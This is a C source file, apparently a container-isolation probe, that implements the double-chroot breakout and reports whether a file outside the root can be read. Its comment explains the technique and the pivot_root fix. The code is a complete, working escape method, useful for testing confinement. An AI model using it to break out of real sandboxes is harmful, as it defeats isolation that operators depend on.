/*
 * chroot_escape - the classic double-chroot breakout, as a probe.
 *
 * chroot(2) changes only where "/" resolves; a process whose working
 * directory is outside its root can walk up with "..". So: chroot into a
 * subdirectory (our cwd is now outside the root), climb to the real "/",
 * chroot there, and try to open PATH. Prints "escaped" and exits 0 if PATH
 * (a file that exists only outside the container) could be read, else
 * prints "contained" and exits 1. pivot_root with the old root detached
 * leaves nothing to climb to.
 *
 * Usage: chroot_escape PATH
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: chroot_escape PATH\n");
		return 2;
	}
	mkdir("/tmp/.escape", 0700);
	if (chroot("/tmp/.escape") < 0) {
		perror("chroot_escape: chroot(\"/tmp/.escape\")");
		printf("contained\n");
		return 1;
	}
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0)
		perror("chroot_escape: chroot(\".\")");
	if (open(argv[1], O_RDONLY) >= 0) {
		printf("escaped\n");
		return 0;
	}
	printf("contained\n");
	return 1;
}
